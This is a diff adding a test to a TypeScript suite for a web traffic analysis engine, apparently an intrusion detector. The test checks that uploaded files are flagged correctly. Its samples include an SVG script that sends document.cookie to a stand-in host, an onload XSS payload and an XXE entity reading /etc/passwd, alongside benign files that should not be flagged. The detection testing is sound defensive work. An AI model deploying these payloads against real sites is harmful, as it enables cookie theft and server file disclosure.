@@ -1,4 +1,5 @@
 import fc from 'fast-check';
+import { createAnalysisEngine, type MatchEventRecord } from '@/runtime/analyzer/engine';
 import { resolveLimits } from '@/runtime/analyzer/engine/limits';
 import { viewRequest } from '@/runtime/analyzer/engine/message-view';
 import { buildExchange } from '@/test/fixtures/traffic';
@@ -52,5 +53,38 @@ describe('multipart part names, spelt as lenient parsers (PHP among them) accept
       }),
       { numRuns: 500 },
     );
+  });
+
+  it('reads uploads of markup and code: script in an SVG or HTML file, an entity in XML, never a benign document', () => {
+    const engine = createAnalysisEngine({ catalog: false, detectionLevel: 4 });
+    const uploaded = (file: string, type: string, content: string) =>
+      engine
+        .analyze(
+          buildExchange({
+            method: 'POST',
+            target: '/upload',
+            requestHeaders: [['Content-Type', 'multipart/form-data; boundary=XX']],
+            requestBody: `--XX\r\nContent-Disposition: form-data; name="f"; filename="${file}"\r\nContent-Type: ${type}\r\n\r\n${content}\r\n--XX--\r\n`,
+          }),
+          { sensorId: 's', sensorTags: [] },
+        )
+        .filter((e): e is MatchEventRecord => e.msg_type === 'MatchEvent')
+        .flatMap((e) => e.matches.map((m) => `${m.classification}@${m.location}`));
+    expect(
+      uploaded('avatar.svg', 'image/svg+xml', '<svg xmlns="http://www.w3.org/2000/svg"><script>fetch("//x.example/?"+document.cookie)</script></svg>'),
+    ).toContain('Xss@upload');
+    expect(uploaded('page.htm', 'application/octet-stream', '<body onload="alert(document.domain)">')).toContain('Xss@upload');
+    expect(uploaded('feed.xml', 'application/xml', '<!DOCTYPE r [<!ENTITY x SYSTEM "file:///etc/passwd">]><r>&x;</r>')).toContain('Xxe@upload');
+    expect(
+      uploaded(
+        'logo.svg',
+        'image/svg+xml',
+        '<svg xmlns="http://www.w3.org/2000/svg" viewBox="0 0 8 8"><a href="https://example.com/"><rect width="8" height="8"/></a></svg>',
+      ),
+    ).toEqual([]);
+    expect(
+      uploaded('report.html', 'text/html', '<html><head><style>h1{color:red}</style></head><body><h1>Q3</h1><form action="/x"></form></body></html>'),
+    ).toEqual([]);
+    expect(uploaded('notes.txt', 'text/plain', '<script>alert(1)</script> is how XSS looks')).toEqual([]);
   });
 });
